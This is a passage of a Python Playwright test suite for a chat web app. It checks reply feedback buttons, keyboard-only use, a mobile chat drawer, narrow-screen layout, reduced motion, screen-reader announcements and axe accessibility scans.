        send(page, question)
        page.get_by_role("button", name="Good reply").nth(("one", "two").index(question)).wait_for()
    with page.expect_response("**/feedback"):
        page.get_by_role("button", name="Good reply").first.press("Enter")
    with page.expect_response("**/feedback"):
        page.get_by_role("button", name="Bad reply").first.press("Space")
    with page.expect_response("**/feedback"):
        page.get_by_role("button", name="Good reply").last.click()
    why = page.get_by_role("textbox", name="What was wrong?")
    why.fill("too short")
    with page.expect_response("**/feedback"):
        why.press("Enter")
    here, kept = thumbs(page), feedback(server, page)
    page.reload()
    page.locator(".wb-thumb[aria-pressed=true]").nth(1).wait_for()
    other = open_page(f"/#chat={chat_of(page)}", user=page.user)
    other.locator(".wb-thumb[aria-pressed=true]").nth(1).wait_for()

    assert kept == [(1, None), (-1, None), (1, None), (-1, "too short")]
    assert here == thumbs(page) == thumbs(other) == [("false", "true"), ("true", "false")]


def test_a_thumb_that_is_not_kept_is_said_and_released(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    send(page, "one")
    last_reply(page, "complete")
    page.route("**/feedback", lambda route: route.abort())
    page.get_by_role("button", name="Bad reply").click()
    page.locator(".wb-notice", has_text="cannot be reached").wait_for()

    assert (thumbs(page), feedback(server, page)) == ([("false", "false")], [])
    assert page.get_by_role("textbox", name="What was wrong?").count() == 0
    page.unroute("**/feedback")
    with page.expect_response("**/feedback"):
        page.get_by_role("button", name="Bad reply").click()
    assert feedback(server, page) == [(-1, None)]


def test_a_reply_that_broke_off_has_no_thumbs(open_page: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.script(fault("overloaded", "Hello there", after=1))
    page = open_page()
    send(page, "one")
    last_reply(page, "failed")

    assert [shown for shown in page.locator(".wb-thumb").all() if shown.is_visible()] == []


# --- For everybody ----------------------------------------------------------------------------------------------


def test_everything_can_be_done_by_keys(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page()
    page.locator(".wb-empty").wait_for()
    assert focused(page) == "wb-input"
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    page.keyboard.press("Enter")
    last_reply(page, "complete")
    listed(page).get_by_text("one two").wait_for()
    for _ in range(20):  # back to the list, with everything between reached
        page.keyboard.press("Shift+Tab")
        if focused(page) == "pg-delete":
            break
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-current')") == "page"
    page.keyboard.press("/")
    assert focused(page) == "pg-search"
    page.keyboard.type("one")
    page.locator(".pg-said", has_text="1 found").wait_for()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert focused(page) == "wb-input"
    page.keyboard.press("Shift+Tab")
    page.locator(".pg-delete").focus()
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.textContent") == "Cancel"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.get_by_role("alertdialog").wait_for(state="hidden")

    assert server.client.get("/chats", headers=who(page)).json()["chats"] == []


def test_the_list_can_be_skipped(open_page: Callable[..., Page]) -> None:
    page = open_page()
    page.locator(".pg-new").focus()
    page.keyboard.press("Shift+Tab")
    assert focused(page) == "pg-skip"
    page.keyboard.press("Enter")

    assert focused(page) == "wb-input"
    assert "#" not in page.url


def test_on_a_phone_the_list_is_a_drawer(open_page: Callable[..., Page], server: LiveServer) -> None:
    page = open_page(size=PHONE, has_touch=True, is_mobile=True)
    ask(server, page, "an old one")
    page.reload()
    menu = page.get_by_role("button", name="Chats")
    assert page.evaluate("document.querySelector('.pg-side').inert")
    menu.click()
    assert menu.get_attribute("aria-expanded") == "true" and page.evaluate("document.querySelector('main').inert")
    assert focused(page) == "pg-new"
    page.keyboard.press("Escape")
    assert menu.get_attribute("aria-expanded") == "false"
    assert focused(page) == "pg-menu"
    menu.click()
    page.get_by_role("link", name="an old one").click()
    page.locator("h1", has_text="an old one").wait_for()

    assert page.evaluate("document.querySelector('.pg-side').inert")
    assert not page.evaluate("document.querySelector('main').inert")


def test_on_a_touch_screen_enter_begins_a_line_and_a_button_sends(
    open_page: Callable[..., Page], server: LiveServer
) -> None:
    page = open_page(size=PHONE, has_touch=True, is_mobile=True)
    page.locator(".wb-input").tap()
    page.keyboard.type("one\ntwo")
    page.locator(".wb-send").tap()
    last_reply(page, "complete")

    assert messages(server, page)[0] == ("complete", "one\ntwo")
    assert page.locator(".wb-hint").inner_text() == ""


@pytest.mark.parametrize("path", ["/", "/docs"])
def test_nothing_is_wider_than_the_narrowest_phone(
    open_page: Callable[..., Page], upstream: ScriptedUpstream, path: str
) -> None:
    wide = f"| {'column | ' * 12}\n|{'---|' * 13}\n| {'x | ' * 13}\n\n```\n{'code ' * 60}\n```\n\n{'w' * 200}"
    upstream.script(reply(wide))
    page = open_page(path, size=NARROWEST)
    if path == "/":
        send(page, "u" * 200)
        last_reply(page, "complete")
    widths = page.evaluate(
        """() => [document.documentElement, document.body, document.querySelector('main'), document.querySelector('.wb-log')]
          .filter(Boolean).map((element) => [element.scrollWidth, element.clientWidth])"""
    )

    assert [(needed, given) for needed, given in widths if needed > given] == []
    if path == "/":
        box = page.locator(".wb-composer").bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= NARROWEST[0]


def test_who_wants_less_motion_gets_none(open_page: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.script(reply("one two", pause_after=1))
    page = open_page(size=PHONE, reduced_motion="reduce")
    send(page, "Count")
    last_reply(page, "streaming").get_by_text("one").wait_for()
    moving = page.evaluate("document.getAnimations().filter(a => a.playState === 'running').length")
    page.get_by_role("button", name="Chats").click()
    moving += page.evaluate("document.getAnimations().filter(a => a.playState === 'running').length")
    upstream.release()

    assert moving == 0


def test_a_reply_is_read_out_once_it_is_there(open_page: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.script(reply("one two", pause_after=1))
    page = open_page()
    send(page, "Count")
    live = last_reply(page, "streaming")
    live.get_by_text("one").wait_for()
    log = page.get_by_role("log", name="Messages")
    assert log.get_attribute("aria-live") == "polite"
    assert live.get_attribute("aria-busy") == "true"
    upstream.release()

    assert last_reply(page, "complete").get_attribute("aria-busy") is None


def violations(page: Page) -> list[str]:
    from axe_playwright_python.sync_playwright import Axe  # reads half a megabyte, and only these tests need it

    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    return [f"{v['id']}: {node['html'][:150]}" for v in found for node in v["nodes"]]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_on_the_page(
    open_page: Callable[..., Page], server: LiveServer, upstream: ScriptedUpstream, scheme: str
) -> None:
    code = "```python\ndef f(x: int) -> str:\n    return 'a'  # why\n```"
    text = f"# Title\n\nSome *text* with `code`, [a link](https://example.com) and\n\n{code}\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    upstream.script(reply(text), fault("529"), fault("529"), fault("529"), reply(words(30), pause_after=20))
    page = open_page(color_scheme=scheme, reduced_motion="reduce")
    page.locator(".wb-empty").wait_for()
    page.locator(".pg-said", has_text="listed here").wait_for()
    found = violations(page)
    for question, status in (("one", "complete"), ("two", "failed"), ("three", "streaming")):
        send(page, question)
        last_reply(page, status)
    listed(page).first.wait_for()
    page.locator(".pg-listed li").hover()
    page.get_by_role("button", name="Bad reply").first.click()
    page.get_by_role("textbox", name="What was wrong?").wait_for()
    found += violations(page)
    page.get_by_role("button", name="Delete one").click()
    page.get_by_role("alertdialog").get_by_role("button", name="Delete").click()
    page.get_by_text("has to be billed").wait_for()
    found += violations(page)
    page.keyboard.press("Escape")
    page.locator(".pg-below button").click()
    found += violations(page)
    page.keyboard.press("Escape")
    page.set_viewport_size({"width": 390, "height": 800})
    found += violations(page)
    page.get_by_role("button", name="Chats").click()
    page.locator(".pg-side[data-open]").wait_for()
    found += violations(page)
    upstream.release()

    assert found == []


@pytest.mark.parametrize(("scheme", "size"), [("light", WIDE), ("dark", NARROWEST)])
def test_axe_finds_nothing_where_a_prompt_is_picked(
    open_page: Callable[..., Page], server: LiveServer, scheme: str, size: tuple[int, int]
) -> None:
    page = open_for_an_org(
        open_page, server, "Help {{customer}}.", size=size, color_scheme=scheme, reduced_motion="reduce"
    )
    dialog = pick(page)
    found = violations(page)
    dialog.get_by_role("combobox", name="Prompt").select_option("support")
    dialog.locator("mark").wait_for()
    dialog.get_by_role("button", name="Use for this chat").click()
    dialog.get_by_text("Fill in customer.").wait_for()
    found += violations(page)
    wide = dialog.evaluate("dialog => dialog.scrollWidth > dialog.clientWidth")
    dialog.get_by_role("textbox").fill("Ada")
    dialog.get_by_role("textbox").press("Enter")
    send(page, "hi")
    last_reply(page, "complete")
    found += violations(page)

    assert (found, wide) == ([], False)


@pytest.mark.parametrize(("scheme", "size"), [("light", WIDE), ("dark", NARROWEST)])
def test_axe_finds_nothing_in_the_reference(open_page: Callable[..., Page], scheme: str, size: tuple[int, int]) -> None:
    assert violations(open_page("/docs#post-chat-stream", size=size, color_scheme=scheme)) == []
